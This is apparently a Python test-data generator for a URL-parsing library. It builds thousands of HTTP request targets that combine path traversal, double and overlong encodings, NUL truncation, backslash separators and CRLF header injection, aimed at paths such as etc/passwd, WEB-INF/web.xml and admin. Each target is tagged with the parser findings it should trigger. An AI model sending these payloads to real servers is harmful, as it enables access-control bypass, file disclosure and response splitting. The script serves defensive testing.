#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""Request targets of path traversal and of confusion between two readers of one path.

    payloads.py [NUMBER]

Prints NUMBER targets (default: 4,000), one a line: the target, the findings that it has
(enum locus_finding in <locus.h>; there may be others), and what it attacks, separated by
tabs. The same number gives the same targets, each of them once, in any version of Python.

As a module: payloads(number) returns a list of Payload.

Every target begins with "/", consists of printable ASCII, and has no space, so that it can
be sent in an HTTP/1 request line and as the ":path" of HTTP/2. The findings follow from
how a target is put together, not from what the library says about it.
"""

import collections
import itertools
import sys

Payload = collections.namedtuple("Payload", "target findings attack")

# A step that is repeated; the findings of each repetition; what it attacks. Some
# servers remove "/../" and "//" themselves, so these are here as well.
STEPS = (
    ("/..;/", "dot-parameter parameter",
     "a servlet container cuts off the parameter, then goes up; the proxy sees a name"),
    ("/..;a=b/", "dot-parameter parameter",
     "a servlet container cuts off the parameter and its value, then goes up"),
    ("/..%3b/", "dot-parameter encoded-semicolon",
     "a backend that decodes before it cuts off parameters goes up"),
    ("/%2e%2e;/", "dot-parameter encoded-unreserved",
     "a backend that decodes and cuts off parameters goes up"),
    ("/.;/", "dot-parameter parameter",
     "a servlet container sees \".\": a prefix rule of the proxy no longer matches"),
    ("/%2e%2e/", "hidden-dot-segment encoded-unreserved",
     "the backend decodes, then removes dot-segments"),
    ("/.%2e/", "hidden-dot-segment encoded-unreserved",
     "a filter looks for %2e%2e and for .., but not for half of each"),
    ("/%2e./", "hidden-dot-segment encoded-unreserved",
     "a filter looks for %2e%2e and for .., but not for half of each"),
    ("/%2e/", "hidden-dot-segment encoded-unreserved",
     "the backend removes the segment: a prefix rule of the proxy no longer matches"),
    ("/..%2f", "hidden-dot-segment encoded-slash",
     "the backend decodes the slash, then goes up"),
    ("/%2e%2e%2f", "hidden-dot-segment encoded-slash encoded-unreserved",
     "the backend decodes all of it, then goes up"),
    ("%2f", "encoded-slash",
     "a segment for the proxy is two segments for the backend"),
    ("%2f%2f", "encoded-slash",
     "a segment for the proxy is three segments for the backend, one of them empty"),
    ("/%252e%252e/", "double-encoded",
     "the proxy decodes once, the backend a second time"),
    ("/..%252f", "double-encoded",
     "the proxy decodes once, the backend a second time"),
    ("/%252e%252e%252f", "double-encoded",
     "the proxy decodes once, the backend a second time"),
    ("/%25252e%25252e/", "double-encoded",
     "three decoders in a row"),
    ("/..%5c", "hidden-dot-segment encoded-backslash",
     "a backend on Windows takes \"\\\" for a separator"),
    ("/%2e%2e%5c", "hidden-dot-segment encoded-backslash encoded-unreserved",
     "a backend on Windows takes \"\\\" for a separator"),
    ("/..\\", "hidden-dot-segment backslash",
     "a backend on Windows takes \"\\\" for a separator"),
    ("%5c", "encoded-backslash",
     "one segment for the proxy, two for a backend on Windows"),
    ("/..%255c", "double-encoded",
     "a second decoding, then \"\\\" as a separator (CVE-2001-0333)"),
    ("//", "empty-segment",
     "a rule for /x does not match //x; a backend that merges slashes serves /x"),
    ("///", "empty-segment",
     "a reader that skips slashes takes the next segment for a host"),
    ("/./", "dot-segment",
     "a rule for /x does not match /./x; a backend that removes the dot serves /x"),
    ("/../", "dot-segment",
     "the backend goes up to what the proxy does not serve"),
    ("/%0d%0a", "encoded-line-break",
     "a program that decodes into a header or a log begins a new line"),
    ("%0d%0aSet-Cookie:%20a=b", "encoded-line-break",
     "a program that decodes into a header adds a field (response splitting)"),
    ("%0a", "encoded-line-break",
     "a regular expression that ends in $ matches before the line feed"),
    ("%00", "encoded-nul",
     "a C string ends here, a filter of names reads on"),
    ("%00.jpg", "encoded-nul",
     "a filter sees a picture, open() another file"),
    ("/..%00/", "encoded-nul",
     "the segment is \"..\" for a C string"),
    ("%c0%af", "overlong-utf8 not-utf8",
     "a lenient UTF-8 decoder makes \"/\" (CVE-2000-0884)"),
    ("/..%c0%af", "overlong-utf8 not-utf8",
     "a lenient UTF-8 decoder makes \"/\" (CVE-2000-0884)"),
    ("/%c0%ae%c0%ae/", "overlong-utf8 not-utf8",
     "a lenient UTF-8 decoder makes \"..\" (CVE-2008-2938)"),
    ("/..%e0%80%af", "overlong-utf8 not-utf8",
     "\"/\" in three octets"),
    ("/..%c1%9c", "overlong-utf8 not-utf8",
     "a lenient UTF-8 decoder makes \"\\\""),
    ("/%u002e%u002e/", "unicode-escape bad-percent",
     "IIS and ECMAScript's unescape() decode %uHHHH"),
    ("/..%u2215", "unicode-escape bad-percent",
     "a best-fit mapping makes \"/\" of U+2215"),
    ("/%ef%bc%8e%ef%bc%8e/", "compatibility-delimiter",
     "normalization (NFKC) makes \"..\" of fullwidth dots"),
    ("/..%ef%bc%8f", "compatibility-delimiter",
     "normalization (NFKC) makes \"/\" of a fullwidth slash"),
    ("/..%20/", "segment-space",
     "a program that trims segments goes up"),
    ("/..%09/", "segment-space",
     "a program that trims segments goes up"),
    ("/.%%32%65/", "bad-percent",
     "after one decoding there is %2e"),
    ("/%80/", "not-utf8",
     "a backend replaces the octet, drops it or refuses it"),
)

# In front of the steps and after them. A step that begins with "/" needs no name before
# it; the others stand in or after a name.
FRONTS = ("", "/static", "/api/v1", "/images/icon.png", "/a;v=1")
ENDS = ("admin", "etc/passwd", "WEB-INF/web.xml", "x", "private/index.html?id=1")
REPEATED = (1, 2, 3, 5)

# Traversal in the query, where the path is harmless: the value of a parameter.
QUERIES = tuple(
    (up, "query-traversal", "a program that opens the file of the parameter goes up")
    for up in ("../", "..%2f", "%2e%2e/", "%2e%2e%2f", "..\\", "..%5c", "%252e%252e%252f",
               "..%c0%af"))


def upper_digits(text):
    """The same octets, with the hexadecimal digits A to F in the other case."""
    out, at = [], 0
    while at < len(text):
        taken = 3 if text[at] == "%" else 1
        out.append(text[at:at + taken].upper() if taken == 3 else text[at])
        at += taken
    return "".join(out)


def everything():
    for (step, findings, attack), front, end, times, case in itertools.product(
            STEPS, FRONTS, ENDS, REPEATED, (str, upper_digits)):
        if not front and not step.startswith("/"):
            front = "/b"
        # "/../" twice is "/../../", and "//" twice "////".
        joined = step * times if not step.endswith("/") or set(step) == {"/"} \
            else step[:-1] * times + "/"
        yield Payload(case(front + joined) + end, findings, attack)
    for (up, findings, attack), end, times, case in itertools.product(
            QUERIES, ENDS[:4], REPEATED, (str, upper_digits)):
        yield Payload("/download?file=" + case(up * times) + end, findings, attack)


def payloads(number=4000):
    """As many different payloads, evenly from everything()."""
    different = list({payload.target: payload for payload in everything()}.values())
    if number > len(different):
        raise ValueError(f"there are {len(different)} payloads, not {number}")
    return [Payload(payload.target, tuple(payload.findings.split()), payload.attack)
            for payload in (different[n * len(different) // number] for n in range(number))]


def main():
    try:
        found = payloads(int(sys.argv[1]) if len(sys.argv) > 1 else 4000)
    except ValueError as error:
        sys.exit(f"payloads.py: {error}")
    for payload in found:
        print(payload.target, ",".join(payload.findings), payload.attack, sep="\t")


if __name__ == "__main__":
    main()
